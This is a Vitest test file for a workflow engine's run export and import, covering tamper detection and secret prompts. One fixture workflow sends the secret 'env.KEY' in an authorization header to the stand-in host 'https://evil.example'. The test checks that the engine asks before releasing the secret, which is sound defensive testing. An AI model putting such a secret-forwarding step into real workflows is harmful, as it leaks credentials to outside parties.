import 'fake-indexeddb/auto';
import { IDBFactory } from 'fake-indexeddb';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { loadPatterns } from '../../../base/index.ts';
import { yaml } from '../../../testing/index.ts';
import { createMemoryFiles } from '../../../testing/memoryFiles.ts';
import { makeRequest, openEngine, start } from '../../../testing/openEngine.ts';
import { TWO_CALLS } from '../../../testing/twoCalls.ts';
import type { SecretQuestion } from '../protocol/protocol.ts';

// Loaded on first use, which would take turns of the clock.
beforeAll(async () => {
  await Promise.all([import('../../../check/index.ts'), loadPatterns()]);
});

const fetch: typeof globalThis.fetch = async () => Response.json({ n: 1 });

describe('an exported run', () => {
  test('is imported as a run to view, which is never resumed', async () => {
    const page = openEngine({ fetch });
    const runId = await start(page, makeRequest(TWO_CALLS));
    await page.finished(runId);
    const text = (await page.engine.exportRun(runId)) ?? '';
    globalThis.indexedDB = new IDBFactory();
    const other = openEngine();
    const row = await other.clock.settle(other.engine.importRun(text, 'run.json'));
    expect(row).toMatchObject({ isImported: true, status: 'success', path: 'test.yaml' });
    const record = await other.clock.settle(other.engine.findRun(row.runId));
    expect(record?.events).toEqual(page.events.get(runId));
    expect(record?.source).toBe(TWO_CALLS);
    expect(await other.clock.settle(other.engine.recoverRuns({ variables: [] }))).toEqual([]);
  });

  test.each([
    '',
    '{}',
    '[1]',
    '{"format":"signalbox-run/1"}',
    '{"format":"signalbox-run/1","summary":{},"details":{},"inputs":[],"proofs":[]}',
  ])('that is invalid is refused with a message: %s', async (text) => {
    await expect(openEngine().engine.importRun(text, 'run.json')).rejects.toThrow(/exported run/);
  });

  const FOREIGN = yaml`
    tasks:
      - {id: first, type: basic, use: "core:log", on_success: {next: file}}
      - {id: file, type: basic, use: "core:file", with: {op: write, path: own.txt, text: "tasks: []"}, on_error: {next: more}}
      - {id: more, type: basic, use: "core:file", with: {op: write, path: new.txt, text: "tasks: []"}, on_success: {next: send}}
      - {id: send, type: basic, use: "core:http", with: {url: "https://evil.example", headers: {authorization: "{{ env.KEY }}"}}}
  `;

  test('is forked as an imported run: its question about a secret names the file, and it overwrites nothing', async () => {
    const page = openEngine({ fetch });
    await page.engine.setWorkspace(createMemoryFiles({}), []);
    const own = [{ name: 'KEY', value: 'k-654321', isSecret: true }];
    const runId = await start(page, makeRequest(FOREIGN, { path: 'own.yaml', simulate: true, variables: own }));
    await page.finished(runId);
    const text = (await page.engine.exportRun(runId)) ?? '';
    globalThis.indexedDB = new IDBFactory();
    const other = openEngine({ fetch });
    const files = createMemoryFiles({ 'own.txt': 'mine' });
    await other.engine.setWorkspace(files, []);
    await other.engine.changeSecret({ type: 'set', name: 'KEY', value: 'k-123456', keep: 'session' });
    const questions: SecretQuestion[] = [];
    await other.engine.subscribeSecrets((state) => questions.push(...state.questions));
    const row = await other.clock.settle(other.engine.importRun(text, 'gift.json'));
    const record = await other.clock.settle(other.engine.findRun(row.runId));
    expect(record).toMatchObject({ importedFrom: 'gift.json', files: new Map() });
    const variables = [{ name: 'KEY', value: '', isSecret: true }];
    await other.clock.settle(other.engine.takeOver(row.runId, { variables }));
    expect(questions).toEqual([]);
    const forked = await other.clock.settle(
      other.engine.forkRun({ runId: row.runId, seq: 0, isPaused: false, variables }),
    );
    await vi.waitFor(() => expect(questions).not.toEqual([]));
    expect(questions[0]).toMatchObject({ name: 'KEY', origin: 'https://evil.example', importedFrom: 'gift.json' });
    expect([...files.texts]).toEqual([['own.txt', 'mine']]);
    const fork = forked.ok ? await other.clock.settle(other.engine.findRun(forked.runId)) : null;
    expect(fork).toMatchObject({ importedFrom: 'gift.json', forkedFrom: row.runId });
    expect(fork?.isImported).toBeUndefined();
  });

  test('can be kept, and holds no salt', async () => {
    const page = openEngine({ fetch });
    const runId = await start(page, makeRequest(TWO_CALLS));
    await page.finished(runId);
    await page.engine.keepRun(runId, true);
    expect(await page.engine.listRuns()).toMatchObject([{ runId, isKept: true }]);
    expect(await page.engine.exportRun(runId)).not.toContain('salt');
  });

  describe('that was changed after it was saved is refused with the part that was changed', () => {
    const imports = TWO_CALLS.replace('tasks:', 'tools: [{ id: note, import: ./note.yaml }]\ntasks:');
    const files = new Map([['note.yaml', 'use: core:log\nschema: { input: {}, output: {} }']]);

    test.each<readonly [string, (saved: string) => string, RegExp]>([
      [
        'text',
        (saved) => saved.replace('type: basic', 'type:  basic'),
        /^The workflow text in this exported run is not/,
      ],
      [
        'imported text',
        (saved) => saved.replace('use: core:log', 'use: core:raise'),
        /^The imported text “note\.yaml”/,
      ],
      [
        'path',
        (saved) => saved.replace('"path": "test.yaml"', '"path": "best.yaml"'),
        /^The path in this exported run/,
      ],
      ['start', (saved) => saved.replace('"seed": 1', '"seed": 2'), /^The start of the run in this exported run/],
      [
        'plan',
        (saved) => saved.replace('"simulate": false,\n   "engine"', '"plan": {},\n   "simulate": false,\n   "engine"'),
        /^The start/,
      ],
      ['answer', (saved) => saved.replace('"n": 1', '"n": 2'), /: input \d+, or the record of its events/],
      ['proof', (saved) => saved.replace(/"digest": "\w/, '"digest": "x'), /: input 1, or the record of its events/],
      [
        'end',
        (saved) => {
          const document: { inputs: readonly object[] } = JSON.parse(saved);
          return JSON.stringify({ ...document, inputs: document.inputs.slice(0, -1) });
        },
        /after input \d+ are missing/,
      ],
      [
        'seal',
        (saved) => saved.replace('"version": 1', '"version": 7'),
        /^This exported run has a seal that cannot be read/,
      ],
    ])('%s', async (_, change, words) => {
      const page = openEngine({ fetch });
      const runId = await start(page, makeRequest(imports, { files }));
      await page.finished(runId);
      const saved = (await page.engine.exportRun(runId)) ?? '';
      const changed = change(saved);
      expect(changed).not.toBe(saved);
      const other = openEngine();
      await other.clock.settle(other.engine.importRun(saved, 'run.json'));
      await expect(other.clock.settle(other.engine.importRun(changed, 'run.json'))).rejects.toThrow(words);
    });
  });
});
